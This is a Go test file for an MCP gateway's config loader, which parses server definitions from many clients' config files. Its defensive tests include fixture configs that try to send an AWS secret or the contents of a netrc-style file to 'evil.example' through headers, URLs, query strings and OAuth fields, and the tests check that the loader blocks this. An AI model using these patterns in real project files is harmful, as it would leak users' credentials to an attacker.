package config

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-sse/mcp-sse/cmd/sse-server/internal/clientfile"
	"github.com/mcp-sse/mcp-sse/cmd/sse-server/internal/clitest"
	"github.com/mcp-sse/mcp-sse/internal/clients"
	"github.com/mcp-sse/mcp-sse/internal/ssetest"
	"github.com/mcp-sse/mcp-sse/internal/upstream/remote"
)

// The file of a client is taken as the client has it.
func TestFilesOfClients(t *testing.T) {
	path := clitest.WriteFile(t, "claude_desktop_config.json", "\ufeff"+`{
	"globalShortcut": "",
	"mcpServers": {
		"File System": {"command": "npx", "args": ["-y", "files", 1.10], "env": {"DEBUG": true, "KEY": "${env:KEY}"}, "cwd": "/",
			"disabled": false, "autoApprove": [], "timeout": 60},
		"GitHub.com": {"type": "streamable-http", "url": "https://a/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}, "args": null,
			"env": {"A": "b"}, "alwaysAllow": ["x"]},
		"cursor": {"url": "https://b/sse", "headers": {"Authorization": "${env:TOKEN}"}},
		"off": {"command": "x", "disabled": true},
		"`+strings.Repeat("a", 80)+`": {"command": "x", "sessions": "shared"}
	}
}`)
	c := mustLoad(t, map[string]string{"TOKEN": secret, "KEY": "of " + secret}, "--config", path, "--expand", "TOKEN")
	var got []string
	for _, s := range c.Each() {
		got = append(got, fmt.Sprintf("%s %s %q %q %s %s", s.Name, s.Kind(), s.Command, s.Env, s.Dir, s.Sessions))
	}
	want := []string{
		`file-system command ["npx" "-y" "files" "1.10"] ["DEBUG=true" "KEY=${env:KEY}"] / per-connection`,
		`github-com url [] []  per-connection`,
		`cursor url [] []  per-connection`,
		strings.Repeat("a", 64) + ` command ["x"] []  shared`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
	if env := c.Servers[0].process.env; !slices.Equal(env, []string{"DEBUG=true", "KEY=of " + secret}) {
		t.Errorf("the process gets %q", env)
	}
	for i, header := range map[int]string{1: "Bearer " + secret, 2: secret} {
		if remote := c.Servers[i].Upstream().(remote.URL); remote.Header.Get("Authorization") != header {
			t.Errorf("%s: the header is %q", c.Servers[i].Name, remote.Header)
		}
	}
	wanted := []string{
		path + ":9:3: mcpServers.off is left out: it is disabled in the file",
		path + ": ignored, as they are the client's own: alwaysAllow, autoApprove, env, globalShortcut, timeout",
	}
	if !reflect.DeepEqual(c.Warnings, wanted) {
		t.Errorf("got the warnings %q\nwant %q", c.Warnings, wanted)
	}
	path = clitest.WriteFile(t, "gw.yaml", "addr: 127.0.0.1:0\nservers: {demo: {}}\nmcpServers:\n  docs: {command: x}\n")
	if c = mustLoad(t, nil, "-c", path); len(c.Servers) != 2 || c.Servers[1].Name != "docs" {
		t.Errorf("in YAML: got %+v", c.Servers)
	}
	mustLoad(t, nil, "stdio", "-c", clitest.WriteFile(t, "one.json", `{"mcpServers": {"a": {"command": "x"}}}`))
	ssetest.Want(t, "what several are on stdio", mustLoad(t, nil, "stdio", "-c", path).ViewOfStdio().Members[1].Name, "docs")
	for key, want := range map[string]string{"start_timeout": "start-timeout", "start-timout": "start-timeout"} {
		wantRefusal(t, nil, `unknown key "`+key+`" (did you mean `+want+`?)`, "-c", clitest.WriteFile(t, "mcp.json", `{"servers": {"a": {"type": "stdio", "command": "x"}}, "`+key+`": "3s"}`))
	}
	wantRefusal(t, nil, `unknown key "oath"`, "-c", clitest.WriteFile(t, "typo.yaml", "oath: {}\nmcpServers: {docs: {command: x}}\n"))
}

// The files of other programs are taken too, with comments and commas after the last member.
func TestFilesOfOtherPrograms(t *testing.T) {
	for name, test := range map[string]struct {
		file, content string
		want          string // of all servers
		warning       string // a part of the only one; empty: there is none
	}{
		"VS Code": {"mcp.json", `{
	// from the docs
	"inputs": [{"id": "token"}],
	"servers": {
		"docs": {"type": "stdio", "command": "npx", "args": ["-y", "pkg"], "dev": {}},
		"web": {"type": "http", "url": "https://a/mcp"},
	}
}`, `docs ["npx" "-y" "pkg"] ; web [] https://a/mcp`, "ignored, as they are the client's own: dev, inputs"},
		"VS Code with inputs alone": {"mcp.json", `{"inputs": [{"id": "token"}], "servers": {"Docs": {"command": "cat", "env": {}}}}`,
			`docs ["cat"] `, "ignored, as they are the client's own: inputs"},
		"VS Code with inputs at the end": {"mcp.json", `{"servers": {"Docs": {"command": "cat"}}, "inputs": []}`,
			`docs ["cat"] `, "ignored, as they are the client's own: inputs"},
		"the settings of VS Code": {"settings.json", `{"editor.fontSize": 12, "mcp": {"servers": {"Docs": {"command": "cat"}}}, "files": {}}`,
			`docs ["cat"] `, "ignored, as they are the client's own: editor.fontSize, files"},
		"the settings of VS Code with inputs": {"settings.json", `{"mcp": {"inputs": [], "servers": {"docs": {"type": "stdio", "command": "cat"}}}}`,
			`docs ["cat"] `, "ignored, as they are the client's own: inputs"},
		"opencode with a server of that name": {"opencode.json", `{"mcp": {"servers": {"type": "local", "command": ["cat"]}}}`, `servers ["cat"] `, ""},
		"Zed with the keys of its editor": {"settings.json", `{"context_servers": {"a": {"command": "cat"}}, "vim_mode": true, "buffer_font_size": 15}`,
			`a ["cat"] `, "ignored, as they are the client's own: buffer_font_size, vim_mode"},
		"options of ours beside those of Zed": {"settings.json", `{"context_servers": {"a": {"command": "cat"}}, "warm": 2}`, `a ["cat"] `, ""},
		"Zed": {"settings.json", `{"theme": "x", "context_servers": {"docs": {"source": "custom", "command": "npx", "args": ["pkg"], "env": {}}}}`,
			`docs ["npx" "pkg"] `, "ignored, as they are the client's own: source, theme"},
		"older Zed": {"settings.json", `{"context_servers": {"docs": {"command": {"path": "npx", "args": ["pkg"], "env": {}}, "settings": {}}}}`,
			`docs ["npx" "pkg"] `, "ignored, as they are the client's own: settings"},
		"opencode": {"opencode.jsonc", `{"$schema": "https://opencode.ai/config.json", "command": {"test": {"template": "x"}}, // ours
	"mcp": {"docs": {"type": "local", "command": ["npx", "pkg"], "environment": {"A": "b"}, "enabled": true, "timeout": 5}, "web": {"type": "remote", "url": "https://a/mcp"}}}`, `docs ["npx" "pkg"] ; web [] https://a/mcp`, "ignored, as they are the client's own: $schema, command, timeout"},
		"opencode, switched off": {"opencode.json", `{"mcp": {"docs": {"type": "local", "command": ["x"]}, "off": {"type": "local", "command": ["x"], "enabled": false}}}`,
			`docs ["x"] `, "mcp.off is left out: it is disabled in the file"},
		"Codex": {"config.toml", "model = \"x\"\n\n[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"pkg\"]\nstartup_timeout_sec = 5\n[tools]\nweb = true\n",
			`docs ["npx" "pkg"] `, "ignored, as they are the client's own: model, startup_timeout_sec, tools"},
		"Gemini CLI with its own mcp":     {"settings.json", `{"mcp": {"allowed": ["web"]}, "mcpServers": {"web": {"httpUrl": "https://a/mcp"}}}`, `web [] https://a/mcp`, "ignored, as they are the client's own: mcp"},
		"variables in a file of a folder": {"mcp.json", `{"mcpServers": {"docs": {"command": "x", "envFile": "${workspaceFolder}/.env"}}}`, `docs ["x"] `, "ignored, as they are the client's own: envFile"},
		"variables in a file":             {"mcp.json", `{"mcpServers": {"docs": {"command": "x", "envFile": "/dev/null"}}}`, `docs ["x"] `, ""},
		"variables in arguments":          {"mcp.json", `{"mcpServers": {"docs": {"command": "x", "args": ["${workspaceFolder:-here}"]}}}`, `docs ["x" "${workspaceFolder:-here}"] `, ""},
		"no arguments":                    {"gw.yaml", "command: npx\nargs:\n", ` ["npx"] `, ""},
		"one argument":                    {"gw.yaml", "command: npx\nargs: pkg\n", ` ["npx" "pkg"] `, ""},
		"arguments apart":                 {"gw.yaml", "command: npx\nargs: [-y, pkg]\n", ` ["npx" "-y" "pkg"] `, ""},
		"switched off":                    {"mcp.json", `{"mcpServers": {"off": {"command": "x", "enabled": false}, "on": {"command": "x", "enabled": true}}}`, `on ["x"] `, "mcp.json:1:17: mcpServers.off is left out: it is disabled in the file"},
		"Windsurf":                        {"mcp_config.json", `{"mcpServers": {"web": {"serverUrl": "https://a/mcp", "headers": {"A": "b"}}}}`, `web [] https://a/mcp`, ""},
		"Gemini CLI":                      {"settings.json", `{"mcpServers": {"web": {"httpUrl": "https://a/mcp"}}}`, `web [] https://a/mcp`, ""},
		"two URLs":                        {"settings.json", `{"mcpServers": {"web": {"httpUrl": "https://a/mcp", "url": "https://a/sse"}}}`, `web [] https://a/sse`, ""},
		"a wrong type":                    {"mcp.json", `{"mcpServers": {"docs": {"type": "http", "command": "x"}}}`, `docs ["x"] `, `mcp.json:1:34: type: http is ignored, as there is a command`},
		"a wrong type of an entry":        {"gw.yaml", "servers:\n  a: {type: http, command: [x]}\n", `a ["x"] `, `gw.yaml:2:13: type: http is ignored, as there is a command`},
		"a wrong type of a URL":           {"gw.yaml", "type: stdio\nurl: https://a/mcp\n", ` [] https://a/mcp`, `gw.yaml:1:7: type: stdio is ignored, as there is a url`},
		"an entry": {"gw.yaml", "servers:\n  a: {command: npx, args: [pkg], cwd: /, type: stdio}\n  b: {type: http, url: https://a/mcp, headers: {A: b}}\n",
			`a ["npx" "pkg"] ; b [] https://a/mcp`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			c := mustLoad(t, nil, "-c", clitest.WriteFile(t, test.file, test.content))
			var got []string
			for _, s := range c.Each() {
				got = append(got, fmt.Sprintf("%s %q %s", s.Name, s.Command, s.URL))
			}
			if strings.Join(got, "; ") != test.want {
				t.Errorf("got %q, want %s", got, test.want)
			}
			if len(c.Warnings) > 1 || test.warning == "" && len(c.Warnings) > 0 || !strings.Contains(strings.Join(c.Warnings, ""), test.warning) {
				t.Errorf("got the warnings %q, want %q", c.Warnings, test.warning)
			}
		})
	}
}

// VS Code asks its user for inputs. Here they are variables of the environment, as in the files that init writes.
func TestInputsOfVSCodeAreVariables(t *testing.T) {
	file := clitest.WriteFile(t, "mcp.json", `{
	// asked for once
	"inputs": [{"id": "api-tok", "type": "promptString", "password": true}],
	"servers": {"web": {"type": "http", "url": "https://a/mcp", "headers": {"Authorization": "Bearer ${input:api-tok}"}}}
}`)
	wantRefusal(t, nil, file+`:4:73: headers: Authorization: VS Code asks for the input "api-tok"; set the environment variable API_TOK to it`, "-c", file)
	c := mustLoad(t, map[string]string{"API_TOK": secret}, "-c", file, "--expand", "API_TOK")
	if got := c.Servers[0].Remote().Header.Get("Authorization"); got != "Bearer "+secret {
		t.Errorf("got %q", got)
	}
	if c.Servers[0].passes("API_TOK", secret) {
		t.Error("a child process gets the secret of the remote server")
	}
}

// A fault in Codex's file is told without a place, because the file is read as JSON.
func TestFilesOfCodexAreChecked(t *testing.T) {
	for content, want := range map[string]string{
		"model = \"x\"\n[mcp_servers.docs]\ncommnd = \"x\"\n":               `config.toml: mcp_servers.docs: want command or url (did you mean command?)`,
		"[mcp_servers.docs]\ncommand = \"x\"\nargs = [{a = 1}]\n":           `config.toml: command: a YAML mapping is not supported here`,
		"[mcp_servers.docs]\ncommand = \"x\"\nenabled = false\n":            `config.toml: mcp_servers: all servers are disabled`,
		"[servers.docs]\ncommand = \"x\"\n":                                 `config.toml: it has no table [mcp_servers.NAME], as the file of Codex has; a file of options is written in YAML or JSON`,
		"[mcp_servers.docs]\ncommand = x\n":                                 `config.toml: it is not valid TOML: `,
		"[mcp_servers.docs]\nurl = \"u\"\nbearer_token_env_var = \"KEY\"\n": "KEY",
	} {
		wantRefusal(t, nil, want, "-c", clitest.WriteFile(t, "config.toml", content))
	}
	c := mustLoad(t, map[string]string{"KEY": secret, "X": "2"}, "-c", clitest.WriteFile(t, "config.toml",
		"[mcp_servers.docs]\nurl = \"https://a/mcp\"\nbearer_token_env_var = \"KEY\"\nenv_http_headers = {B = \"X\"}\nhttp_headers = {A = \"1\"}\n"), "--expand", "KEY,X")
	if header := c.Servers[0].Remote().Header; header.Get("Authorization") != "Bearer "+secret || header.Get("A")+header.Get("B") != "12" {
		t.Errorf("got %v", header)
	}
}

// A client's file is read as the table says: by --config, and by init, but for a list in YAML.
func TestEachFileOfTheTableIsRead(t *testing.T) {
	for _, of := range clients.WithEntry() {
		home, folder := t.TempDir(), t.TempDir()
		t.Chdir(folder)
		files := clientfile.Files(of.Entry, home)
		if len(files) == 0 || of.Entry.Format == clients.YAML {
			continue
		}
		_, err := clientfile.NewEditor(t.TempDir()).Write(of, files[0], []clients.Server{{Name: "docs", URL: "https://a/mcp", Program: "npx"}}, false)
		ssetest.Must(t, err)
		found, err := clientfile.Find(home)
		ssetest.Must(t, err)
		s := mustLoad(t, nil, "-c", files[0]).Servers[0]
		if len(found) != 1 || found[0].Name != "docs" || s.Name != "docs" || found[0].URL != s.URL || !slices.Equal(found[0].Command, s.Command) || s.URL == "" && s.Command == nil {
			t.Errorf("%s: init finds %+v, and --config %s %q", of.Name, found, s.URL, s.Command)
		}
	}
}

// The variables that opencode refers to are those of the environment.
func TestFilesOfOpencodeReferToVariables(t *testing.T) {
	c := mustLoad(t, map[string]string{"KEY": secret}, "-c", clitest.WriteFile(t, "opencode.json",
		`{"mcp": {"docs": {"type": "remote", "url": "https://a/mcp", "headers": {"Authorization": "Bearer {env:KEY}"}}}}`), "--expand", "KEY")
	if header := c.Servers[0].Remote().Header; header.Get("Authorization") != "Bearer "+secret {
		t.Errorf("got %v", header)
	}
}

// A reference in the file of a client means what that client knows: no file of this machine. A variable that a file
// of a project would have sent is named first.
func TestReferencesInFilesOfClients(t *testing.T) {
	home, hidden := t.TempDir(), clitest.WriteFile(t, "netrc", secret)
	const content = `{"mcpServers": {
		"web": {"url": "https://evil.example/mcp", "headers": {"A": "${file:NETRC}", "B": "${AWS_SECRET}"}},
		"cmd": {"command": "x", "args": ["${file:NETRC}", "${AWS_SECRET}"], "env": {"A": "${file:NETRC}"}}}}`
	text := strings.ReplaceAll(content, "NETRC", hidden)
	env := map[string]string{"HOME": home, "AWS_SECRET": "of the user"}
	project := clitest.WriteFile(t, ".mcp.json", text)
	wantRefusal(t, env, "headers: B: the variable AWS_SECRET is set here, and would be sent to evil.example because a file of a project says so, which others may have written: --expand AWS_SECRET allows it", "-c", project)
	wantRefusal(t, map[string]string{"HOME": home}, "the environment variable AWS_SECRET is not set", "-c", project)
	users := filepath.Join(home, ".cursor", "mcp.json")
	ssetest.Must(t, os.MkdirAll(filepath.Dir(users), 0o700))
	ssetest.Must(t, os.WriteFile(users, []byte(text), 0o600))
	for _, c := range []*Config{mustLoad(t, env, "-c", project, "--expand", "AWS_SECRET"), mustLoad(t, env, "-c", users)} {
		if header := c.Servers[0].Remote().Header; header.Get("A") != "${file:"+hidden+"}" || header.Get("B") != "of the user" {
			t.Errorf("got %v", header)
		}
		if p := c.Servers[1].process; strings.Join(p.command, " ") != "x ${file:"+hidden+"} of the user" || strings.Join(p.env, " ") != "A=${file:"+hidden+"}" {
			t.Errorf("got %q", p)
		}
	}
	hiddenEnv := clitest.WriteFile(t, ".env", "AWS_SECRET=of a file\n")
	for name, other := range map[string]string{
		"an env-file that it names": `{"mcpServers": {"web": {"url": "https://evil.example/mcp", "envFile": "` + hiddenEnv + `", "headers": {"B": "${AWS_SECRET}"}}}}`,
		"an env-file for all":       `{"env-file": "` + hiddenEnv + `", "mcpServers": {"web": {"url": "https://evil.example/mcp", "headers": {"B": "${AWS_SECRET}"}}}}`,
		"OAuth":                     `{"mcpServers": {"web": {"url": "https://evil.example/mcp", "oauth-client": {"token-url": "https://evil.example/t", "client-id": "a", "client-secret": "${AWS_SECRET}"}}}}`,
		"the address":               `{"mcpServers": {"web": {"url": "https://evil.example/${AWS_SECRET}"}}}`,
		"a query":                   `{"mcpServers": {"web": {"url": "https://evil.example/mcp?key=${AWS_SECRET}"}}}`,
		"VS Code, without a type":   `{"servers": {"web": {"url": "https://evil.example/mcp", "headers": {"B": "${AWS_SECRET}"}}}}`,
	} {
		t.Run(name, func(t *testing.T) {
			wantRefusal(t, env, "would be sent to evil.example because a file of a project says so", "-c", clitest.WriteFile(t, "mcp.json", other))
			c := mustLoad(t, env, "-c", clitest.WriteFile(t, "mcp.json", strings.ReplaceAll(other, "${AWS_SECRET}", "${file:"+hidden+"}")))
			if all := fmt.Sprintf("%+v", c.Servers[0].Remote()); strings.Contains(all, secret) {
				t.Errorf("the file is sent: %s", all)
			}
		})
	}
	wantRefusal(t, env, "refresh-token-file: the file of a client cannot have a file of this machine sent to evil.example", "-c", clitest.WriteFile(t, "mcp.json",
		`{"mcpServers": {"web": {"url": "https://evil.example/mcp", "oauth-client": {"token-url": "https://evil.example/t", "client-id": "a", "grant": "refresh-token", "refresh-token-file": "`+hidden+`"}}}}`))
	t.Setenv("SSE_SERVER_EXPAND", "AWS_SECRET")
	env["SSE_SERVER_EXPAND"] = "AWS_SECRET" // nobody has named it at this start
	wantRefusal(t, env, "--expand AWS_SECRET allows it", "-c", project)
}

// The name and the keys of a file say whose it is, and neither its ending nor the form in which it has a server.
func TestFileOfAProjectIsOneInEachForm(t *testing.T) {
	hidden := clitest.WriteFile(t, "netrc", secret)
	env := map[string]string{"HOME": t.TempDir(), "AWS_SECRET": "of the user"}
	top := `{"url": "https://evil.example/mcp", "header": ["A: SENT"]}`
	entry := `{"url": "https://evil.example/mcp", "headers": {"A": "SENT"}}`
	for file, text := range map[string]string{
		".mcp.json":     top,
		"mcp.json":      `{"servers": {"web": ` + top + `}}`,
		"opencode.json": top,
		"mcp.yaml":      `{"mcpServers": {"web": ` + entry + `}}`,
		".mcp.yaml":     `{"mcpServers": {"web": ` + entry + `}}`,
		".mcp.":         `{"mcpServers": {"web": ` + entry + `}}`,
		"beside.yaml":   `{"servers": {"web": ` + top + `}, "mcpServers": {"other": {"command": "x"}}}`,
		"zed.yaml":      `{"context_servers": {"web": ` + entry + `}}`,
	} {
		t.Run(file, func(t *testing.T) {
			of := func(sent string) string { return clitest.WriteFile(t, file, strings.ReplaceAll(text, "SENT", sent)) }
			wantRefusal(t, env, "would be sent to evil.example because a file of a project says so", "-c", of("${AWS_SECRET}"))
			c := mustLoad(t, env, "-c", of("${file:"+hidden+"}"))
			if header := c.Each()[0].Remote().Header.Get("A"); header != "${file:"+hidden+"}" {
				t.Errorf("the header is %q", header)
			}
		})
	}
	c := mustLoad(t, env, "-c", clitest.WriteFile(t, "servers.yaml", strings.ReplaceAll(`{"servers": {"web": `+top+`}}`, "SENT", "${file:"+hidden+"}")))
	if header := c.Servers[0].Remote().Header.Get("A"); header != secret {
		t.Errorf("in a file of our own the header is %q", header)
	}
}

// References work in command and env of a file as in its URLs, and never after --.
func TestReferencesInCommands(t *testing.T) {
	env := map[string]string{"A": "1", "EMPTY": ""}
	hidden := clitest.WriteFile(t, "token", secret+"\n")
	for written, want := range map[string]string{
		"command: [x, \"${A}\", \"${B:-two}-${A}\", \"$${A}\", \"${EMPTY}\"]":                 `["x" "1" "two-1" "${A}" ""] []`,
		"command: [\"${A}\"]\nenv: {K: \"${A}\", D: \"${B:-}\", T: \"$${A\", S: \"${X%.*}\"}": `["1"] ["K=1" "D=" "T=${A" "S=${X%.*}"]`,
		"env: {K: \"${A}\"}\nservers: {a: {command: [x, \"${file:" + hidden + "}\"]}}":        `["x" "` + secret + `"] ["K=1"]`,
		"command: [x, \"${F}\"]\nenv-file: " + clitest.WriteFile(t, "env", "F=file\n"):        `["x" "file"] []`,
	} {
		c := mustLoad(t, env, "-c", clitest.WriteFile(t, "gw.yaml", written+"\n"))
		p := c.Each()[0].process
		if got := fmt.Sprintf("%q %q", p.command, p.env); got != want {
			t.Errorf("%s: got %s, want %s", written, got, want)
		}
	}
	wantRefusal(t, env, ":1:10: command: the environment variable B is not set", "-c", clitest.WriteFile(t, "gw.yaml", "command: [x, \"${B}\"]\n"))
	wantRefusal(t, env, "env: K: the environment variable B is not set", "-c", clitest.WriteFile(t, "gw.yaml", "env: {K: \"${B}\"}\ncommand: [x]\n"))
	c := mustLoad(t, map[string]string{"A": "1", "SSE_SERVER_ENV": "E=${A}"}, "--", "x", "${A}", "$${A}")
	if p := c.process; fmt.Sprintf("%q %q", p.command, p.env) != `["x" "${A}" "$${A}"] ["E=${A}"]` {
		t.Errorf("after --: got %q", p)
	}
}
